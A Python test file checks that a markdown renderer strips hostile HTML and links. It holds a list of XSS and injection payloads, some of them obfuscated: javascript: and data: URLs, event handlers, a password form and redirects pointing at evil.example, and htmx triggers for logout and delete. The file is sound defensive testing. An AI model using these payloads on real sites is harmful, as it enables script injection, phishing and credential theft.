"""Notes are formatted, and harmless: nothing in them runs, loads or breaks out."""

from html.parser import HTMLParser

import pytest

from activities.markdown import ATTRIBUTES, TAGS, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x][1]\n\n[1]: http://evil.example/pixel.png",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://ok.example "\\" onmouseover=alert(1) \\"")',
    "[x](https://ok.example' onclick='alert(1))",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "> <details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<form action=http://evil.example><input name=password>",
    "<div hx-get='/logout' hx-trigger='load'>x</div>",
    "<button hx-post='/leads/1/delete/' data-key='n'>x</button>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example'>",
    "<a id=toasts name=toasts>x</a>",
    "\u202e[x](javascript:alert(1))",
]  # fmt: skip


class Reader(HTMLParser):
    """Collects every element as a browser would see it."""

    def __init__(self):
        super().__init__()
        self.elements = []

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))


def elements(html):
    reader = Reader()
    reader.feed(html)
    return reader.elements


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_survives(payload):
    for tag, attributes in elements(render_markdown(payload)):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}
        href = attributes.get("href", "https:")
        assert href.partition(":")[0].lower() in {"http", "https", "mailto", "tel"}


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** and *soft*", "<p><strong>bold</strong> and <em>soft</em></p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        ("# Title", "<h4>Title</h4>"),
        ("### Deep", "<h6>Deep</h6>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("", ""),
    ],
)
def test_what_people_format_is_formatted(text, html):
    assert render_markdown(text).strip() == html


def test_a_link_tells_its_target_nothing():
    ((_, _), (tag, attributes)) = elements(render_markdown("[site](https://halcyon.example)"))
    assert (tag, attributes["href"]) == ("a", "https://halcyon.example")
    assert {"noopener", "noreferrer"} <= set(attributes["rel"].split())


@pytest.mark.parametrize("text", ["> " * 5000, "[" * 20000, "*a " * 20000, "`" * 20000])
def test_text_made_to_be_slow_is_rendered_in_time(text):
    assert isinstance(render_markdown(text), str)
